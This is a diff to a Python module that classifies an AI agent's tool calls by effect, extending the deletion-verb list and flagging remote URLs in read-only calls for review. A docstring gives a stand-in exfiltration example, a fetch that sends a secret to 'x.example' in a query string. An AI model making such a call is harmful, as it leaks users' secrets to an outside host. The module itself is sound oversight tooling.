@@ -76,7 +76,7 @@ EXTERNAL_VERBS = frozenset(
 """Verbs whose effect leaves the machine: someone else sees it, or money or goods move."""
 DELETE_VERBS = frozenset(
     "delete remove destroy drop purge erase clear revoke wipe truncate unlink kill terminate "
-    "uninstall prune discard deactivate ban block shred cancel "
+    "uninstall prune discard deactivate ban block shred cancel trash del "
     "overwrite flush reset void expire evict rollback revert abort cleanup".split()
 )
 """Verbs that lose something for good."""
@@ -117,10 +117,11 @@ dialog (``browser_select_option``, ``handle_dialog``, ``puppeteer_select``), whe
 
 NOUN_VERBS = frozenset(
     "message email mail order book call post comment like sms dm "
-    "tag label mark star link set reply forward ship sign type press fill tap".split()
+    "tag label mark star link set reply forward ship sign type press fill tap del".split()
 )
-"""Words that are as often nouns (``get_email``, ``user_order_list``): a verb only as the
-first word of the operation part."""
+"""Words that are as often nouns (``get_email``, ``user_order_list``), or short forms that
+are other words inside a name (``del`` in ``estado_del_pedido``): a verb only as the first
+word of the operation part (``delListeNoire``, ``del_user``)."""
 _VERBS = READ_VERBS | EXTERNAL_VERBS | DELETE_VERBS | CHANGE_VERBS | INPUT_VERBS
 _CAMEL = re.compile(r"[A-Z]+(?=[A-Z][a-z])|[A-Z]?[a-z]+|[A-Z]+|\d+")
 _PATH_ARGS = frozenset(
@@ -245,6 +246,20 @@ def action_argument(arguments: Mapping[str, Any], *,
     return None
 
 
+_REMOTE_URL = re.compile(r"^(?:https?|wss?|ftp)://(?!(?:localhost|127\.\d+\.\d+\.\d+|"
+                         r"\[::1\]|0\.0\.0\.0)(?:[:/?#]|$))", re.I)
+
+
+def _remote_url(arguments: Mapping[str, Any]) -> str | None:
+    """A URL to another machine among the arguments: a read there still sends what the URL
+    carries (``fetch {"url": "https://x.example/?d=<secret>"}``), so the model judges it, as
+    it does a harness's ``WebFetch``."""
+    for value in arguments.values():
+        if isinstance(value, str) and _REMOTE_URL.match(value.strip()):
+            return value.strip()
+    return None
+
+
 def _local_paths(arguments: Mapping[str, Any]) -> list[tuple[str, str]]:
     """``(argument name, value)`` of arguments that name a path and hold a local path."""
     out = []
@@ -329,8 +344,11 @@ def name_effect(
     if verb in READ_VERBS:
         if where == "name" and verb in PLAIN_READS and found is named \
                 and not _names_a_change(tool):
+            url = _remote_url(args)
             return Effect(effect=EffectClass.READ_ONLY, source=EffectSource.TOOL_NAME,
-                          evidence=f"{said} and names nothing it changes")
+                          evidence=f"{said} and names nothing it changes" + (
+                              f", but its URL leaves the machine ({url[:80]})" if url else ""),
+                          needs_model=url is not None)
         return None
     if verb in INPUT_VERBS or verb in _FORM_VERBS:
         return Effect(
